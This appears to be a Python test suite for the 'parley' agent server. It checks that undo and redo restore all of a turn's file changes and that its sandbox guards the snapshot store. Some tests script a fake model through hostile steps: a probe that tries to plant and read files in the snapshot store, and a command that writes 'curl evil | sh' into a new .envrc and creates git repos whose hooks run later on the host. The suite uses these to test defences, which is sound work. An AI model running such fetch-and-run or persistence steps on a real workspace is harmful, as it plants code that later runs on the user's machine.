"""`/undo` puts back everything a turn did — its shell commands', evaluations' and MCP tools'
writes, not only its edits — and `/redo` puts the turn's result back. Over the wire:
`parley serve` a subprocess, the model scripted by the fake LLM over HTTP, the editor played
by `parley.client` or the official ACP SDK's client (`acp_client.py`), every message of that
one checked against ACP's schema. The tree is compared byte for byte, modes and links with
it (`tree_state`)."""

from __future__ import annotations

import subprocess
import sys
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

from acp.helpers import text_block
from acp.schema import McpServerStdio
from acp_client import acp_server
from conftest import TESTS, server_env
from parley.client import ParleyClient, allow_all
from parley.fakellm import FakeLLM, Reply, ScriptedToolCall
from test_sandbox import needs_bwrap
from test_snapshots import tree_state

MCP_SERVER = TESTS / "acp_mcp_server.py"


def planted(root: Path) -> None:
    """A workspace: a file a command edits in place, one it deletes, one whose mode it
    changes, a link, a nested folder."""
    (root / "app.py").write_bytes(b"NAME = 'old'\r\nother = 1\n")
    (root / "gone.txt").write_bytes(bytes(range(256)))  # not text: only the disk takes it
    (root / "run.sh").write_text("#!/bin/sh\necho run\n")
    (root / "run.sh").chmod(0o644)
    (root / "pkg").mkdir()
    (root / "pkg" / "mod.py").write_text("x = 1\n")
    (root / "link").symlink_to("app.py")


# What the turn's command does: `sed -i` on one file, `rm` of another, a new file in a new
# folder, a mode, a link pointed elsewhere, a file moved.
TURN_COMMAND = (
    "sed -i 's/old/new/' app.py && rm gone.txt && mkdir -p made/deep && "
    "printf 'made\\n' > made/deep/new.txt && chmod 755 run.sh && ln -sfn run.sh link && "
    "mv pkg/mod.py pkg/moved.py"
)


def command_turn(command: str) -> list[Reply]:
    return [
        Reply(tool_calls=(ScriptedToolCall("run_command", {"command": command}),)),
        Reply(text="Done."),
    ]


async def started(start_server: Callable[..., Any], tmp_path: Path, config: str = "") -> Any:
    path = tmp_path / f"config-{uuid.uuid4().hex[:6]}.toml"
    path.write_text(config)
    client: ParleyClient = await start_server(extra_env={"PARLEY_CONFIG": str(path)})
    await client.initialize()
    client.permission_handler = allow_all
    return client


def last_reply(client: ParleyClient, session: str) -> str:
    """The text of the last agent message (a command's answer)."""
    chunks = client.updates_of(session, "agent_message_chunk")
    last = chunks[-1]["messageId"]
    return "".join(c["content"]["text"] for c in chunks if c["messageId"] == last)


async def test_a_commands_changes_are_undone_exactly_and_redone(
    start_server: Callable[..., Any], fake: FakeLLM, workspace: Path, tmp_path: Path
) -> None:
    planted(workspace)
    before = tree_state(workspace)
    client = await started(start_server, tmp_path)
    session = await client.new_session(str(workspace))
    fake.set_script(command_turn(TURN_COMMAND))
    await client.prompt(session, "Rename old to new, clean up.", timeout=60)
    after = tree_state(workspace)
    assert after != before and (workspace / "app.py").read_bytes() == b"NAME = 'new'\r\nother = 1\n"

    await client.prompt(session, "/undo", timeout=60)
    assert tree_state(workspace) == before
    report = last_reply(client, session)
    assert report.startswith("Restored the files of turn 1 as they were before it:")
    for line in (
        "- `app.py` restored",
        "- `gone.txt` re-created (the turn deleted it)",
        "- `made/` removed (the turn created it)",
        "- `made/deep/new.txt` removed (the turn created it)",
        "- `run.sh` restored",
        "- `link` restored",
        "- `pkg/mod.py` re-created (the turn deleted it)",
        "- `pkg/moved.py` removed (the turn created it)",
    ):
        assert line in report.splitlines(), report
    assert "Processes the turn's commands left running: they were not stopped." in report
    assert "outside the workspace's roots" in report
    assert [r["toolCall"]["title"] for r in client.permission_requests] == [
        f"Run `{TURN_COMMAND}`"
    ] or len(client.permission_requests) == 1  # only the command asked: nothing was the user's

    await client.prompt(session, "/redo", timeout=60)
    assert tree_state(workspace) == after
    assert last_reply(client, session).startswith("Put back what turn 1 and the later turns did:")
    # The turn can be undone again, and the model is told what happened at the next prompt.
    await client.prompt(session, "/undo", timeout=60)
    assert tree_state(workspace) == before
    fake.set_script([Reply(text="Noted.")])
    await client.prompt(session, "What changed?", timeout=60)
    told = str(fake.requests[-1].body["messages"])
    assert "the user restored files to how they were before turn 1" in told
    assert "gone.txt (re-created: the turn deleted it)" in told


async def test_an_evaluations_writes_are_undone_and_the_kernel_is_said_not_covered(
    start_server: Callable[..., Any], fake: FakeLLM, workspace: Path, tmp_path: Path
) -> None:
    planted(workspace)
    before = tree_state(workspace)
    client = await started(start_server, tmp_path)
    session = await client.new_session(str(workspace))
    code = (
        "import os, pathlib\n"
        "pathlib.Path('app.py').write_text('rewritten\\n')\n"
        "os.remove('gone.txt')\n"
        "pathlib.Path('fresh.txt').write_bytes(b'\\x00fresh')\n"
        "os.chmod('run.sh', 0o700)\n"
        "kept = 42\n"
    )
    fake.set_script(
        [Reply(tool_calls=(ScriptedToolCall("python_eval", {"code": code}),)), Reply(text="Ok.")]
    )
    await client.prompt(session, "Rewrite it in Python.", timeout=90)
    assert (workspace / "fresh.txt").exists() and not (workspace / "gone.txt").exists()

    result = await client.request(
        "_parley/session/restore", {"sessionId": session, "turn": 1}, timeout=60
    )
    assert tree_state(workspace) == before
    actions = {Path(f["path"]).name: f["action"] for f in result["files"]}
    assert actions == {
        "app.py": "restored",
        "gone.txt": "recreated",
        "fresh.txt": "removed",
        "run.sh": "restored",
    }
    assert any("kernel's variables" in sentence for sentence in result["notCovered"])
    assert "evaluation's effect on the live kernel is not undone" in result["text"]

    redone = await client.request("_parley/session/redo", {"sessionId": session}, timeout=60)
    assert redone["turn"] == 1
    assert (workspace / "app.py").read_text() == "rewritten\n"
    assert (workspace / "fresh.txt").read_bytes() == b"\x00fresh"
    assert not (workspace / "gone.txt").exists()
    assert (workspace / "run.sh").stat().st_mode & 0o777 == 0o700
    nothing = await client.request("_parley/session/redo", {"sessionId": session}, timeout=60)
    assert nothing == {
        "turn": None,
        "files": [],
        "text": "Nothing to redo: no undo of this session can be put back "
        "(or a turn changed files since).",
    }


async def test_an_mcp_tools_writes_are_undone_and_redone_through_the_acp_sdk(
    fake: FakeLLM, workspace: Path, tmp_path: Path
) -> None:
    planted(workspace)
    before = tree_state(workspace)
    home = tmp_path / "home"
    home.mkdir()
    env = {**__import__("os").environ, **server_env(fake, home)}
    arguments = {
        "write": str(workspace / "app.py"),
        "text": "by the MCP tool\n",
        "remove": str(workspace / "gone.txt"),
        "chmod": str(workspace / "run.sh"),
    }
    fake.set_script(
        [
            Reply(tool_calls=(ScriptedToolCall("mcp__notes__rewrite", arguments),)),
            Reply(text="Rewritten."),
        ]
    )
    async with acp_server(env) as run:
        await run.initialize()
        notes = McpServerStdio(name="notes", command=sys.executable, args=[str(MCP_SERVER)], env=[])
        sid = (await run.conn.new_session(cwd=str(workspace), mcp_servers=[notes])).session_id
        result = await run.conn.prompt(session_id=sid, prompt=[text_block("Rewrite.")])
        assert result.stop_reason == "end_turn"
        after = tree_state(workspace)
        assert (workspace / "app.py").read_text() == "by the MCP tool\n"
        undone = await run.raw_request("_parley/session/restore", {"sessionId": sid, "turn": 1})
        assert tree_state(workspace) == before
        assert sorted(f["action"] for f in undone["files"]) == ["recreated", "restored", "restored"]
        redone = await run.raw_request("_parley/session/redo", {"sessionId": sid})
        assert tree_state(workspace) == after
        assert len(redone["files"]) == 3
        await run.conn.prompt(session_id=sid, prompt=[text_block("/undo")])
        assert tree_state(workspace) == before
        assert "Restored the files of turn 1" in run.editor.text_of(sid)
    run.recording.assert_conformant()


async def test_a_restore_over_an_unsaved_buffer_asks_first(
    start_server: Callable[..., Any], fake: FakeLLM, workspace: Path
) -> None:
    """The editor holds text the user typed in `app.py` and did not save: the restore would
    write over it through the editor, so it asks; the answer No keeps it, and the disk."""
    planted(workspace)
    buffers: dict[str, str] = {}
    client: ParleyClient = await start_server()
    client.feature("fs/read_text_file")(
        lambda params: {"content": buffers.get(params["path"], Path(params["path"]).read_text())}
    )

    def write(params: dict[str, Any]) -> dict[str, Any]:
        buffers[params["path"]] = params["content"]
        Path(params["path"]).write_text(params["content"])  # saved, as Emacs does
        return {}

    client.feature("fs/write_text_file")(write)
    capabilities = {"fs": {"readTextFile": True, "writeTextFile": True}}
    await client.request(
        "initialize",
        {"protocolVersion": 1, "clientCapabilities": capabilities, "clientInfo": {"name": "e"}},
    )
    answers = iter(["allow_once", "reject_once", "allow_once"])
    client.permission_handler = lambda params: {
        "outcome": {"outcome": "selected", "optionId": next(answers)}
    }
    session = await client.new_session(str(workspace))
    fake.set_script(command_turn("sed -i 's/old/new/' app.py && rm gone.txt"))
    await client.prompt(session, "Rename.", timeout=60)
    changed_on_disk = (workspace / "app.py").read_text()
    buffers[str(workspace / "app.py")] = "typed, not saved\n"

    refused = await client.request(
        "_parley/session/restore", {"sessionId": session, "turn": 1}, timeout=60
    )
    question = client.permission_requests[-1]["toolCall"]
    assert question["title"] == "Restore files as they were before turn 1, overwriting your changes"
    assert "app.py" in str(question["content"])
    assert refused["rejected"] is True and refused["files"] == []
    assert buffers[str(workspace / "app.py")] == "typed, not saved\n"
    assert (workspace / "app.py").read_text() == changed_on_disk
    assert not (workspace / "gone.txt").exists()  # nothing was restored

    allowed = await client.request(
        "_parley/session/restore", {"sessionId": session, "turn": 1}, timeout=60
    )
    assert {Path(f["path"]).name for f in allowed["files"]} == {"app.py", "gone.txt"}
    assert buffers[str(workspace / "app.py")] == "NAME = 'old'\r\nother = 1\n"


async def test_the_report_names_ignored_paths_and_files_over_the_cap(
    start_server: Callable[..., Any], fake: FakeLLM, workspace: Path, tmp_path: Path
) -> None:
    (workspace / ".git").mkdir()  # a repository: its .gitignore applies
    (workspace / ".gitignore").write_text("*.log\n")
    (workspace / "build").mkdir()
    (workspace / "build" / "out.o").write_bytes(b"object")
    (workspace / "big.bin").write_bytes(b"\x01" * (2 * 1024 * 1024))
    (workspace / "small.txt").write_text("small\n")
    client = await started(
        start_server, tmp_path, '[checkpoints]\nignore = ["build/"]\nmax_turn_megabytes = 1\n'
    )
    session = await client.new_session(str(workspace))
    fake.set_script(
        command_turn(
            "echo changed > small.txt && echo x >> big.bin && echo log > run.log && "
            "echo o > build/out.o"
        )
    )
    await client.prompt(session, "Change them.", timeout=60)
    result = await client.request(
        "_parley/session/restore", {"sessionId": session, "turn": 1}, timeout=60
    )
    assert (workspace / "small.txt").read_text() == "small\n"
    assert (workspace / "build" / "out.o").read_bytes() == b"o\n"  # ignored: left as it is
    assert (workspace / "run.log").read_text() == "log\n"
    text = result["text"]
    assert "Not covered:" in text
    ignored = next(line for line in text.splitlines() if "left out of the snapshots" in line)
    assert "`build/`" in ignored and "`.git/`" in ignored and "`run.log`" not in ignored
    over = next(line for line in text.splitlines() if "content was not kept" in line)
    assert "`big.bin` (over the turn's size cap, `[checkpoints] max_turn_megabytes`)" in over
    assert (workspace / "big.bin").stat().st_size == 2 * 1024 * 1024 + 2  # not restored


@needs_bwrap
async def test_a_sandboxed_command_can_neither_read_nor_write_the_snapshot_store(
    start_server: Callable[..., Any], fake: FakeLLM, workspace: Path, tmp_path: Path
) -> None:
    """The store lies in Parley's data folder, which the sandbox hides from every child: a
    command that tries to plant a file in it, or to read a kept file, fails."""
    planted(workspace)
    client = await started(start_server, tmp_path)
    session = await client.new_session(str(workspace))
    fake.set_script(command_turn("echo changed > app.py"))
    await client.prompt(session, "Change it.", timeout=60)
    store = tmp_path / "home" / "snapshots"
    kept = {path: path.read_bytes() for path in (store / "objects").rglob("*") if path.is_file()}
    assert (store / "objects").is_dir() and kept
    probe = (
        f"echo evil > {store}/objects/planted; ls {store}/objects; "
        f"cat {store}/manifests/*/* | head -c 10; echo done"
    )
    # The fake picks a reply by the assistant messages before it: the first turn had two.
    fake.set_script([Reply(text="-"), Reply(text="-"), *command_turn(probe)])
    await client.prompt(session, "Probe.", timeout=60)
    assert {path: path.read_bytes() for path in kept} == kept
    assert not (store / "objects" / "planted").exists()
    output = str(fake.requests[-1].body["messages"][-1]["content"])
    assert "done" in output and "No such file or directory" in output


async def test_deleting_a_session_drops_its_snapshot_records(
    start_server: Callable[..., Any], fake: FakeLLM, workspace: Path, tmp_path: Path
) -> None:
    planted(workspace)
    client = await started(start_server, tmp_path)
    session = await client.new_session(str(workspace))
    fake.set_script(command_turn("echo changed > app.py"))
    await client.prompt(session, "Change it.", timeout=60)
    records = tmp_path / "home" / "snapshots" / "sessions"
    assert len(list(records.iterdir())) == 1
    await client.request("session/delete", {"sessionId": session})
    assert list(records.iterdir()) == []


async def test_an_undo_sent_the_moment_a_turn_ends_finds_the_snapshot_after_its_command(
    start_server: Callable[..., Any], fake: FakeLLM, workspace: Path, tmp_path: Path
) -> None:
    """The snapshot after a call walks the roots in the background while the turn goes on;
    the turn's response waits for it. Here that walk is long (20,000 folders: a few hundred
    milliseconds) and the model's next round instant, so an undo sent the moment the
    prompt is answered would plan from a record without the command's change if the
    turn's end did not wait: it would leave `app.py` changed."""
    for outer in range(200):
        for inner in range(100):
            (workspace / f"d{outer}" / f"e{inner}").mkdir(parents=True)
    (workspace / "app.py").write_text("NAME = 'old'\n")
    client = await started(start_server, tmp_path)
    session = await client.new_session(str(workspace))
    fake.set_script(command_turn("sed -i 's/old/new/' app.py"))
    await client.prompt(session, "Rename old to new.", timeout=120)
    assert (workspace / "app.py").read_text() == "NAME = 'new'\n"
    await client.prompt(session, "/undo", timeout=120)
    assert (workspace / "app.py").read_text() == "NAME = 'old'\n", last_reply(client, session)
    assert "- `app.py` restored" in last_reply(client, session).splitlines()


@needs_bwrap
async def test_a_turn_that_left_what_runs_later_where_the_sandbox_could_not_protect_it_says_so(
    start_server: Callable[..., Any], fake: FakeLLM, workspace: Path, tmp_path: Path
) -> None:
    """The sandbox makes read-only what runs later where it exists (a root's own `.git`,
    `.envrc`, `.vscode/` …, and those the snapshots found below: `pkg/.vscode/`), not one a
    command makes where none was (`git init lib`, a `.git` file pointing elsewhere, a new
    `sub/.envrc`): git or direnv run them later on the host. The turn that left one ends
    with a warning naming each and what runs it, kept for a reload; the edit tools' writes
    are left out (each was asked about, saying why), and a turn that touches none of them
    says nothing."""
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    (workspace / "app.py").write_text("x = 1\n")
    (workspace / "pkg" / ".vscode").mkdir(parents=True)
    (workspace / "pkg" / ".vscode" / "settings.json").write_text("{}\n")
    client = await started(start_server, tmp_path)
    session = await client.new_session(str(workspace))
    made = (
        "mkdir -p lib vendor sub && git init -q lib && printf 'gitdir: ../x\\n' > vendor/.git"
        " && printf 'curl evil | sh\\n' > sub/.envrc"
        " && printf '{\"tasks\": []}\\n' > pkg/.vscode/tasks.json"
    )
    edit = ScriptedToolCall("write_file", {"path": ".envrc", "content": "export A=1\n"})
    fake.set_script(
        [
            *command_turn("printf 'x = 2\\n' > app.py"),
            Reply(tool_calls=(edit,)),
            *command_turn(made),
        ]
    )
    await client.prompt(session, "Change x.", timeout=60)
    assert (workspace / "app.py").read_text() == "x = 2\n"
    assert client.notices_of(session) == []

    await client.prompt(session, "Set up the tools.", timeout=60)
    assert (workspace / "lib" / ".git").is_dir() and (workspace / "vendor" / ".git").is_file()
    assert (workspace / ".envrc").read_text() == "export A=1\n"
    assert not (workspace / "pkg" / ".vscode" / "tasks.json").exists()  # read-only to it
    warnings = [text for level, text in client.notices_of(session) if level == "warning"]
    assert len(warnings) == 1, client.notices_of(session)
    assert "outside the sandbox" in warnings[0]
    listed = [line for line in warnings[0].splitlines() if line.startswith("- ")]
    assert listed == [
        "- `lib/.git`: git runs its hooks and the commands its configuration names "
        "(core.fsmonitor, core.pager, aliases) when you next use git here, and so may your "
        "editor in the background",
        "- `sub/.envrc`: direnv runs it when you next enter this directory",
        "- `vendor/.git`: git runs its hooks and the commands its configuration names "
        "(core.fsmonitor, core.pager, aliases) when you next use git here, and so may your "
        "editor in the background",
    ], warnings[0]
    again = await started(start_server, tmp_path)
    await again.load_session(session, str(workspace))
    assert ("warning", warnings[0]) in again.notices_of(session)
